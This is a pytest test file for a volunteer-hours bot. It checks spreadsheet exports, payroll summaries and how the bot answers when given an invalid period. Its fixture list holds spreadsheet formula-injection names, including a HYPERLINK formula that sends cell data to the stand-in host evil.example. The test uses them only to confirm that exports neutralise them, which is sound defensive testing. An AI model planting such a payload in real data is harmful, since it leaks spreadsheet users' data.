"""Exports a spreadsheet cannot execute (issue 17.2): XLSX and CSV, names as they are now."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from storage.models import HourEntry, MonthApproval, Person, Role
from tests.integration.test_hours import add_entry
from tests.seed import SOCIAL_WORKER, register, seed_cast

NASTY = [
    '=HYPERLINK("http://evil.example/?d="&A3&B3,"Siu Fong")',
    "+85291234567",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab Lady",
    "\rReturn Man",
]


@pytest.fixture
async def cast(bot):
    return await seed_cast(bot.services, bot.sandbox)


def every_cell(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


async def test_names_that_look_like_formulas_stay_text_in_xlsx_and_csv(bot, cast):
    for number, name in enumerate(NASTY):
        person = await register(
            bot.services,
            telegram_id=2200 + number,
            name=name,
            role=Role.SUPPORTER,
            unit_id=cast.unit.id,
            social_worker_id=cast.worker.id,
        )
        async with bot.services.sessions() as session:
            # As the profile holds it now (joining trims the whitespace a name starts with).
            (await session.get(Person, person.id)).display_name = name
            await session.commit()
        await add_entry(bot, person.id, dt.date(2026, 10, 3 + number), 60)
    replies = await bot.say(SOCIAL_WORKER, "/export 2026-10")
    documents = [r.document for r in replies if r.document is not None]
    workbooks = [load_workbook(io.BytesIO(d.data)) for d in documents if d.filename.endswith("x")]
    texts = [d.data.decode("utf-8-sig") for d in documents if d.filename.endswith(".csv")]
    assert workbooks and texts
    for workbook in workbooks:
        cells = list(every_cell(workbook))
        assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
        values = {c.value for c in cells if isinstance(c.value, str)}
        for name in NASTY:
            name = name.replace("\r", "\n")  # XML reads a stored CR back as LF
            assert "'" + name in values, name
            assert name not in values, name
    for text in texts:
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        for name in NASTY:
            assert "'" + name in cells, name
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


async def test_exports_use_the_name_in_the_current_profile(bot, cast):
    await add_entry(bot, cast.supporter.id, dt.date(2026, 10, 3), 60)
    async with bot.services.sessions() as session:
        person = await session.get(Person, cast.supporter.id)
        person.display_name = "Chan Siu Fong"  # renamed since joining as "Siu Fong"
        await session.commit()
    replies = await bot.say(SOCIAL_WORKER, "/export 2026-10")
    csv_text = next(r.document for r in replies if r.document.filename.endswith(".csv"))
    content = csv_text.data.decode("utf-8-sig")
    assert "Chan Siu Fong" in content
    assert "\r\nSiu Fong," not in content


# --- payroll-ready export and the report, for any period (issue 18.7) ----------------------


async def person_named(bot, cast, telegram_id: int, name: str, *, active=True):
    person = await register(
        bot.services,
        telegram_id=telegram_id,
        name=name,
        role=Role.SUPPORTER,
        unit_id=cast.unit.id,
        social_worker_id=cast.worker.id,
    )
    if not active:
        async with bot.services.sessions() as session:
            (await session.get(Person, person.id)).active = False
            await session.commit()
    return person


async def quarter_of_hours(bot, cast):
    """Siu Fong, two Mays (one left the service), hours in October and November."""
    may_1 = await person_named(bot, cast, 2301, "May")
    may_2 = await person_named(bot, cast, 2302, "May", active=False)
    plan = [
        (cast.supporter.id, dt.date(2026, 10, 3), 90, "visit"),
        (cast.supporter.id, dt.date(2026, 10, 9), 30, "phone"),
        (cast.supporter.id, dt.date(2026, 11, 2), 125, "visit"),
        (may_1.id, dt.date(2026, 10, 20), 61, "group"),
        (may_1.id, dt.date(2026, 11, 20), 47, "escort"),  # an activity added since: flows through
        (may_2.id, dt.date(2026, 10, 21), 240, "visit"),
    ]
    for person_id, day, minutes, activity in plan:
        await add_entry(bot, person_id, day, minutes, activity)
    async with bot.services.sessions() as session:
        session.add(
            MonthApproval(
                person_id=cast.supporter.id,
                month="2026-10",
                approved_by_id=cast.worker.id,
                approved_at=dt.datetime(2026, 11, 3, 2, 0, tzinfo=dt.UTC),
            )
        )
        await session.commit()
    return may_1, may_2, sum(p[2] for p in plan)


def csv_rows(document) -> list[list[str]]:
    return list(csv.reader(io.StringIO(document.data.decode("utf-8-sig"), newline="")))


async def test_a_quarter_export_is_payroll_ready(bot, cast):
    may_1, may_2, total = await quarter_of_hours(bot, cast)
    replies = await bot.say(SOCIAL_WORKER, "/export 2026-Q4")
    files = {r.document.filename: r.document for r in replies if r.document is not None}
    assert sorted(files) == [
        "hours-2026-Q4-entries.csv",
        "hours-2026-Q4-summary.csv",
        "hours-2026-Q4.xlsx",
    ]
    assert replies[0].caption == (
        "Q4 2026 (1 Oct – 31 Dec 2026): 6 entries from 3 supporters, 9 h 53 min in all."
    )
    summary = csv_rows(files["hours-2026-Q4-summary.csv"])
    header = summary[0]
    assert header[:3] == ["Staff no.", "Supporter", "Status"]
    assert "escort to appointment (min)" in header and "home visit (min)" in header
    assert header[-7:] == [
        "Total minutes",
        "Total hours",
        "Entries",
        "Home visits",
        "Approval",
        "Approved by",
        "Approved on",
    ]
    by_name = {row[1]: dict(zip(header, row, strict=True)) for row in summary[1:]}
    fong = by_name["Siu Fong"]
    assert fong["Staff no."] == f"TH-{cast.supporter.id:04d}"
    assert fong["Total minutes"] == "245" and fong["Home visits"] == "2"
    assert fong["Approval"] == "partly approved (1 of 2 months)"
    assert (fong["Approved by"], fong["Approved on"]) == ("Ms Chan", "2026-11-03")
    # Two Mays, told apart; the one who left is marked.
    assert by_name[f"May (TH-{may_1.id:04d})"]["Status"] == "active"
    assert by_name[f"May (TH-{may_1.id:04d})"]["escort to appointment (min)"] == "47"
    assert by_name[f"May (TH-{may_2.id:04d})"]["Status"] == "inactive"
    assert by_name[f"May (TH-{may_2.id:04d})"]["Approval"] == "not approved"
    grand = by_name["Grand total"]
    assert grand["Total minutes"] == str(total) == "593"
    # The entries sheet adds up to the same minute, and matches the database.
    entries = csv_rows(files["hours-2026-Q4-entries.csv"])
    assert sum(int(row[4]) for row in entries[1:]) == total
    async with bot.services.sessions() as session:
        assert sum(e.minutes for e in await session.scalars(select(HourEntry))) == total
    workbook = load_workbook(io.BytesIO(files["hours-2026-Q4.xlsx"].data))
    assert workbook.sheetnames == ["Summary", "Entries"]
    xlsx_total = next(r for r in workbook["Summary"].values if r[1] == "Grand total")
    assert xlsx_total[header.index("Total minutes")] == total


async def test_a_date_range_and_a_month_export(bot, cast):
    await quarter_of_hours(bot, cast)
    replies = await bot.say(SOCIAL_WORKER, "/export 2026-10-15..2026-11-10")
    assert replies[0].caption.startswith("15 Oct – 10 Nov 2026: 3 entries")
    replies = await bot.say(SOCIAL_WORKER, "/export 2026-11")
    assert replies[0].caption.startswith("November 2026: 2 entries")


@pytest.mark.parametrize(
    ("command", "answer"),
    [
        ("/export 2026-13", "There is no month “2026-13” — months go from 01 to 12."),
        ("/export 2026-Q5", "There is no quarter “2026-Q5” — quarters go from Q1 to Q4."),
        (
            "/export 2026-12-31..2026-10-01",
            "In “2026-12-31..2026-10-01” the start comes after the end",
        ),
        ("/export 2026-02-30..2026-03-01", "“2026-02-30..2026-03-01” has a date that doesn't"),
        ("/export 2027-01", "“2027-01” hasn't started yet."),
        ("/export next-month", "I couldn't read “next-month” as a period."),
        ("/report 2026-Q5", "There is no quarter “2026-Q5”"),
    ],
)
async def test_periods_that_do_not_exist_get_a_clear_answer(bot, cast, command, answer):
    await quarter_of_hours(bot, cast)
    replies = await bot.say(SOCIAL_WORKER, command)
    assert len(replies) == 1 and replies[0].document is None
    assert answer in replies[0].text
    assert replies[0].text.endswith("Nothing was changed.")


async def test_cantonese_period_answer(bot, cast):
    async with bot.services.sessions() as session:
        from bot.services import people

        (await people.person_by_telegram_id(session, SOCIAL_WORKER)).language = "yue"
        await session.commit()
    replies = await bot.say(SOCIAL_WORKER, "/export 2026-Q5")
    assert replies[0].text.startswith("冇「2026-Q5」呢個季度")
